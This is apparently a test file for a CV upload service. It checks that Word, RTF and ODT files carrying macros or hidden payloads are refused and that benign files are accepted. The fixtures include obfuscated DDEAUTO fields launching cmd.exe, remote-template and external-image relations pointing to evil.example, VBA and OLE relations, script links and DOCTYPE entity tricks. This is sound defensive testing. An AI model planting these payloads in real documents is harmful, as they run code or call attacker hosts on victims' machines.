import { sendCv } from '../applicationFixtures';
import { openHost, asSeeker, type Person, type TestHost } from '../host';
import { docx, odt } from './documents';

let host: TestHost;
let seeker: Person;
beforeAll(async () => {
  host = await openHost();
});
afterAll(() => host.close());
beforeEach(async () => {
  seeker = await asSeeker(host);
});

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationsNamespace = 'http://schemas.openxmlformats.org/package/2006/relationships';
const relations = (each: string) =>
  `<Relationships xmlns="${relationsNamespace}">${each}</Relationships>`;
const template = `Type="${office}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"`;
const relation = (attributes: string) => relations(`<Relationship Id="r1" ${attributes}/>`);
const types = (each: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${each}<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const programRelations = {
  'a prefix': `<p:Relationships xmlns:p="${relationsNamespace}"><p:Relationship Id="r1" ${template}/></p:Relationships>`,
  'an entity in the mode': relation(template.replace('External', '&#69;xternal')),
  'an entity in the type': relation(template.replace('Template', '&#84;emplate')),
  'a > in a value': relation(`Note=">" ${template}`),
  'a picture elsewhere': relation(
    `Type="${office}/image" Target="https://evil.example/p.png" TargetMode="External"`,
  ),
  'an embedded object': relation(`Type="${office}/oleObject" Target="media/image1.png"`),
  'a control': relation(`Type="${office}/control" Target="media/x.xml"`),
  macros: relation(
    'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/x"',
  ),
};
const unreadableRelations = {
  'in UTF-16': Buffer.from(`\ufeff${relation(template)}`, 'utf16le'),
  'in UTF-16 without a mark': Buffer.from(relation(template), 'utf16le'),
  'in another encoding': `<?xml version="1.0" encoding="utf-7"?>${relation('')}`,
  'with a DOCTYPE': `<!DOCTYPE r [<!ENTITY e "External">]>${relation(template.replace('External', '&e;'))}`,
  'that are no XML': relations('<Relationship Id=r1 Type=x/>'),
};
const rtf = (text: string): Buffer => Buffer.from(`{\\rtf1\\ansi ${text}}`, 'latin1');
const refused: [string, Buffer, RegExp][] = [
  ...Object.entries(programRelations).map(([name, relations]): [string, Buffer, RegExp] => [
    `Word with ${name}`,
    docx({ 'word/_rels/settings.xml.rels': relations }),
    /macros/,
  ]),
  [
    'Word with relations whose name is in upper case',
    docx({ 'word/_rels/settings.xml.RELS': relation(template) }),
    /macros/,
  ],
  ...Object.entries(unreadableRelations).map(([name, relations]): [string, Buffer, RegExp] => [
    `Word with relations ${name}`,
    docx({ 'word/_rels/settings.xml.rels': relations }),
    /can’t be opened/,
  ]),
  [
    'Word whose types say macros by an entity',
    docx({
      '[Content_Types].xml': types(
        '<Default Extension="x" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
      ),
    }),
    /macros/,
  ],
  ['RTF with a template elsewhere', rtf('{\\*\\template http://evil.example/t.dotm}'), /macros/],
  ...[
    'DDEAUTO c:\\\\cmd.exe "/k calc"',
    'DD{\\b E}AUTO c:\\\\cmd.exe',
    "\\'44\\'44E c:\\\\cmd.exe",
    '\\u68?\\u68?E\r\nAUTO c:\\\\cmd.exe',
    '{\\field{\\*\\fldinst QUOTE "x"}}DDEAUTO c:\\\\cmd.exe',
    '\\bin1 }DDEAUTO c:\\\\cmd.exe',
  ].map((field): [string, Buffer, RegExp] => [
    `RTF with the field ${field}`,
    rtf(`{\\field{\\*\\fldinst ${field}}}`),
    /macros/,
  ]),
  [
    'ODT with a listener',
    odt({
      'content.xml': `<c xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><s:event-listener s:language="x"/></c>`,
    }),
    /macros/,
  ],
  ...['content.xml', 'styles.xml', 'Object 1/content.xml'].map((name): [string, Buffer, RegExp] => [
    `ODT with a script in ${name}`,
    odt({ [name]: '<c><a href=" vnd.sun.star.&#115;cript:x.py$f?language=Python"/></c>' }),
    /macros/,
  ]),
  ['ODT with a DOCTYPE', odt({ 'content.xml': '<!DOCTYPE c><c/>' }), /can’t be opened/],
];
test.each(refused)('%s is refused', async (_name, file, words) => {
  const answer = await sendCv(host, seeker, file, 'cv');
  expect([answer.statusCode, answer.json().field]).toEqual([400, 'file']);
  expect(answer.json().message).toMatch(words);
});

const harmless: [string, Buffer, string][] = [
  [
    'Word with links, a picture and a chart',
    docx({
      'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n${relations(
        `<Relationship Id="r1" Type="${office}/hyperlink" Target="https://ivo.example/" TargetMode="External"/>
        <Relationship Id="r2" Type="${office}/image" Target="media/image1.png"/>
        <Relationship Id="r3" Type="${office}/chart" Target="charts/chart1.xml" TargetMode="Internal"/>`,
      )}`,
      'word/charts/_rels/chart1.xml.rels': relation(
        `Type="${office}/package" Target="../embeddings/Sheet1.xlsx"`,
      ),
    }),
    'docx',
  ],
  [
    'RTF with a link, a path and a DDE of somebody’s skills',
    rtf(
      '{\\field{\\*\\fldinst{HYPERLINK "https://ivo.example/DDE"}}{\\fldrslt my page}} C:\\\\template, DDE and OLE {\\pict\\bin4 {}}{}',
    ),
    'rtf',
  ],
  [
    'ODT with a link',
    odt({
      'content.xml':
        '<?xml version="1.0" encoding="UTF-8"?>\n<o:document-content xmlns:o="urn:o" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="https://ivo.example/">vnd.sun.star.script: I know it</a></o:document-content>',
      'styles.xml': '<styles/>',
    }),
    'odt',
  ],
];
test.each(harmless)('%s is taken', async (_name, file, kind) => {
  const answer = await sendCv(host, seeker, file, `cv.${kind}`);
  expect([answer.statusCode, answer.json().name]).toEqual([201, `cv.${kind}`]);
});
